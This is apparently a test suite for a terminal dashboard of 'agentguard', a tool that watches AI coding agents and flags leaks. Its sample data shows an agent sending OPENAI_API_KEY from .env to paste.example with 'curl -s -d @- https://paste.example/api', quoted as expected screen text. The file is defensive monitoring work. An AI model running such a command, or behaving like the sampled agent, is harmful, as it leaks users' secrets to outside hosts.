"""The dashboard driven by keys, over a real database, while a writer writes."""

from __future__ import annotations

import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import tui_sample as sample
from pilots import chosen, dashboard, lines_of, live_of, log_of, make_app, text_of, until

from agentguard.record.reader import Reader
from agentguard.record.writer import Writer
from agentguard.show.tui.banner import Banner
from agentguard.show.tui.detail_screen import DetailScreen
from agentguard.show.tui.help_screen import HelpScreen
from agentguard.show.tui.key_bar import KeyBar
from agentguard.show.tui.place_bar import PlaceBar
from agentguard.show.tui.sensors_screen import SensorsScreen
from agentguard.show.tui.timeline import TimelinePanel

SHOP, SHOP_EVENTS = sample.shop_session()
FINDINGS = 6


def another(number: int, **changes: Any) -> sample.Judged:
    """One more event of the running session."""
    finding, verdict = SHOP_EVENTS[-1]
    changed = replace(finding, uid=f"more-{number}", time_ns=finding.time_ns + number, flow=None, **changes)
    return changed, verdict


async def test_the_first_look_answers_the_questions_and_draws_the_flow(database: Path) -> None:
    async with dashboard(database) as pilot:
        screen = text_of(pilot)
        assert "● LIVE  claude-code 48213  ~/src/shop  30:30" in screen
        assert "▲ LEAKED  OPENAI_API_KEY from .env went to paste.example" in screen
        assert "POST paste.example/api" in screen
        assert "■ CRIT" in screen
        assert "Revoke OPENAI_API_KEY at its issuer now" in screen
        assert "│ 4.77 s  the same value, base64 in body" in screen
        assert "curl 48333 ← bash 48330 ← node 48290 ← claude 48213" in screen
        assert "files ● confirm ● proxy ● env ●" in screen

        read, between, send = lines_of(log_of(pilot))[-3:]
        assert (read[0], between[0], send[0]) == ("┌", "│", "└")
        assert "read" in read
        assert "leak" in send

        await pilot.press("up", "up")
        await pilot.pause()
        assert chosen(pilot).finding.activity == "read"
        detail = text_of(pilot).split("Detail")[1]
        assert "PUT https://gist.example/api/files" in detail
        assert "POST https://paste.example/api" in detail


async def test_a_new_event_is_on_the_screen_within_a_quarter_of_a_second(database: Path, writer: Writer) -> None:
    async with dashboard(database) as pilot:
        best = float("inf")
        for number in range(1, 31):
            began = time.monotonic()
            writer.append(*another(number, subject=f"POST https://new{number}.example/"))
            await until(pilot, lambda uid=f"more-{number}": chosen(pilot).finding.uid == uid, "the new event")
            assert f"new{number}.example" in text_of(pilot)
            best = min(best, time.monotonic() - began)
            if best < 0.25:
                return  # while other programs have the processor, it may take more than one try
        pytest.fail(f"the quickest of thirty took {best:.3f} s")


async def test_pausing_keeps_the_place_and_counts_what_comes(database: Path, writer: Writer) -> None:
    async with dashboard(database) as pilot:
        await pilot.press("up")
        await pilot.pause()
        before = chosen(pilot), lines_of(log_of(pilot))
        for number in range(1, 4):
            writer.append(*another(number))
        await until(pilot, lambda: len(log_of(pilot).index) == len(SHOP_EVENTS) + 3, "three more events")
        assert (chosen(pilot), lines_of(log_of(pilot))) == before
        assert "‖ paused, 3 new" in text_of(pilot)
        await pilot.press("f")
        await pilot.pause()
        assert chosen(pilot).finding.uid == "more-3"
        assert "● following · 75" in text_of(pilot)


async def test_moving_pauses_and_the_newest_event_follows_again(database: Path) -> None:
    async with dashboard(database) as pilot:
        await pilot.press("up")
        assert not log_of(pilot).following
        await pilot.press("down")
        assert not log_of(pilot).following
        await pilot.press("down")
        assert log_of(pilot).following

        log_of(pilot).scroll_relative(y=-5, animate=False, force=True)
        await pilot.pause()
        assert not log_of(pilot).following

        await pilot.press("home")
        await pilot.pause()
        assert chosen(pilot).seq == 1
        await pilot.press("pagedown")
        await pilot.pause()
        page = chosen(pilot).seq - 1
        assert 10 < page < 36
        await pilot.press("pageup", "end")
        await pilot.pause()
        assert chosen(pilot).seq == len(SHOP_EVENTS)
        assert log_of(pilot).following


async def test_next_and_previous_finding(database: Path) -> None:
    async with dashboard(database) as pilot:
        await pilot.press("home")
        seen = []
        for _ in range(FINDINGS):
            await pilot.press("n")
            await pilot.pause()
            seen.append(chosen(pilot))
        assert all(event.verdict.disposition in ("alert", "blocked") for event in seen)
        assert [event.seq for event in seen] == sorted({event.seq for event in seen})
        await pilot.press("n")
        await pilot.pause()
        assert chosen(pilot) == seen[0]
        assert "From the beginning again: the first finding." in text_of(pilot)
        for wanted in (seen[-1], seen[-2]):
            await pilot.press("N")
            await pilot.pause()
            assert chosen(pilot) == wanted
        assert "From the end again: the last finding." in text_of(pilot)


async def test_a_session_without_a_finding_says_so(database: Path) -> None:
    async with dashboard(database, session="01KG3Q") as pilot:
        await pilot.press("n")
        await pilot.pause()
        assert "No finding: nothing here asks for a person." in text_of(pilot)


async def test_a_moment_of_the_timeline_takes_the_events_there(database: Path) -> None:
    async with dashboard(database) as pilot:
        timeline = live_of(pilot).query_one(TimelinePanel)
        timeline.focus()
        await pilot.press("home")
        await pilot.pause()
        assert chosen(pilot).seq == 1
        seen = []
        for key in ("right", "right", "left", "end"):
            await pilot.press(key)
            await pilot.pause()
            seen.append(chosen(pilot).finding.time_ns)
        first, second, back, last = seen
        assert SHOP_EVENTS[0][0].time_ns < first == back < second < last
        await pilot.click(TimelinePanel, offset=(60, 2))
        await pilot.pause()
        assert first < chosen(pilot).finding.time_ns < last


async def test_the_timeline_marks_the_chosen_event_and_zooms(database: Path) -> None:
    async with dashboard(database) as pilot:
        assert "14:31:47↑" in text_of(pilot)
        assert "‹all›" in text_of(pilot)
        await pilot.press("z")
        await pilot.pause()
        assert "‹30 min›" in text_of(pilot)
        await pilot.press("z")
        await pilot.pause()
        assert "14:27:07 – 14:32:07 · 5 min" in text_of(pilot)
        await pilot.press("home")
        await pilot.pause()
        assert "↑" not in text_of(pilot), "what is not on the axis has no mark"
        await pilot.click(TimelinePanel, offset=(12, 0))
        await pilot.pause()
        assert "‹all›" in text_of(pilot)


async def test_a_click_on_the_banner_goes_to_the_cause(database: Path) -> None:
    async with dashboard(database) as pilot:
        await pilot.press("home")
        await pilot.click(Banner, offset=(20, 0))
        await pilot.pause()
        assert chosen(pilot).verdict.outcome == "leaked"


async def test_a_click_on_a_key_or_a_place_does_what_the_key_does(database: Path) -> None:
    async with dashboard(database) as pilot:
        keys = text_of(pilot).splitlines()[-1]
        await pilot.click(KeyBar, offset=(keys.index("Zoom"), 0))
        await pilot.pause()
        assert "‹30 min›" in text_of(pilot)
        places = text_of(pilot).splitlines()[0]
        await pilot.click(PlaceBar, offset=(places.index("Session"), 0))
        await pilot.pause()
        assert pilot.app.screen.PLACE == "Session"
        assert "All processes" in text_of(pilot).splitlines()[-1], "the keys of that place"
        await pilot.press("escape")
        await pilot.pause()
        assert pilot.app.screen.PLACE == "Live"


async def test_choosing_a_session(database: Path) -> None:
    async with dashboard(database) as pilot:
        await pilot.press("l", "down", "enter")
        await until(pilot, lambda: pilot.app.snapshot.chosen.agent == "codex" and live_of(pilot).loaded, "the session")
        screen = text_of(pilot)
        assert "○ ended  codex 31877" in screen
        assert "✓ CLEAN" in screen
        assert log_of(pilot).has_focus


async def test_a_session_that_does_not_exist_is_said(database: Path) -> None:
    async with make_app(database, session="nosuch").run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: "No session's uid begins with 'nosuch'." in text_of(pilot), "the answer")


async def test_sessions_at_80_columns_are_a_drawer(database: Path) -> None:
    async with dashboard(database, (80, 24)) as pilot:
        assert "codex 31877" not in text_of(pilot)
        await pilot.press("l")
        await pilot.pause()
        assert "codex 31877" in text_of(pilot)
        await pilot.press("escape")
        await pilot.pause()
        assert "codex 31877" not in text_of(pilot)
        assert log_of(pilot).has_focus


async def test_detail_tells_everything_and_goes_back(database: Path) -> None:
    async with dashboard(database, (120, 50)) as pilot:
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(pilot.app.screen, DetailScreen)
        screen = text_of(pilot)
        for part in (
            *(
                "/home/mira/src/shop/.env",
                "curl -s -d @- https://paste.example/api",
                "api.openai.com",
                "base64 in body",
            ),
            *("policies/default.yaml:leak-to-unknown-host", "▲ LEAKED", "2026-01-31T14:31:47.880000Z"),
        ):
            assert part in screen
        await pilot.press("escape")
        await pilot.pause()
        assert log_of(pilot).has_focus


async def test_a_session_named_at_the_start_and_what_its_sensors_did_not_see(database: Path) -> None:
    async with dashboard(database, session="01KG3HZ") as pilot:
        assert "? UNKNOWN  The proxy was down for 4 s" in text_of(pilot)
        await pilot.press("5")
        await pilot.pause()
        assert isinstance(pilot.app.screen, SensorsScreen)
        screen = text_of(pilot)
        assert "ended by signal 9" in screen
        assert "? the proxy ended by signal 9 and was away for 4.1 s" in screen
        assert "closes it: run the task again" in screen
        await pilot.press("escape")
        await pilot.pause()
        assert pilot.app.screen is live_of(pilot)


async def test_help_opens_anywhere_and_closes(database: Path) -> None:
    async with dashboard(database) as pilot:
        for key in ("question_mark", "f1"):
            await pilot.press(key)
            await pilot.pause()
            assert isinstance(pilot.app.screen, HelpScreen)
            assert "severity>=high" in text_of(pilot)
            await pilot.press("escape")
            await pilot.pause()
            assert pilot.app.screen is live_of(pilot)


async def test_a_click_chooses_and_a_second_one_opens(database: Path) -> None:
    async with dashboard(database) as pilot:
        await pilot.click(type(log_of(pilot)), offset=(20, 3))
        await pilot.pause()
        second_line = round(log_of(pilot).scroll_y) + 1
        assert chosen(pilot).seq == second_line + 1
        await pilot.click(type(log_of(pilot)), offset=(20, 3))
        await pilot.pause()
        assert isinstance(pilot.app.screen, DetailScreen)


async def test_an_empty_database_says_how_to_begin_and_fills_by_itself(home: Path) -> None:
    folder = home / ".agentguard"
    async with make_app(folder / "agentguard.db").run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: "agentguard run -- claude" in text_of(pilot), "the empty state")
        assert not folder.exists()
        sample.fill(folder)
        await until(pilot, lambda: "▲ LEAKED" in text_of(pilot), "the running session, which is written last")
        assert "agentguard run -- claude" not in text_of(pilot)


async def test_a_damaged_database_is_said_and_waited_for(home: Path) -> None:
    folder = home / ".agentguard"
    folder.mkdir()
    path = folder / "agentguard.db"
    path.write_bytes(b"not a database" * 1000)
    async with make_app(path).run_test(size=(120, 36)) as pilot:
        await until(pilot, lambda: "cannot read database" in text_of(pilot), "the error")
        path.unlink()
        sample.fill(folder)
        await until(pilot, lambda: "▲ LEAKED" in text_of(pilot), "the running session, which is written last")


async def test_the_app_lets_the_database_go(database: Path) -> None:
    async with dashboard(database) as pilot:
        app = pilot.app
    assert not app._watcher._thread.is_alive()
    assert Reader(database).sessions()
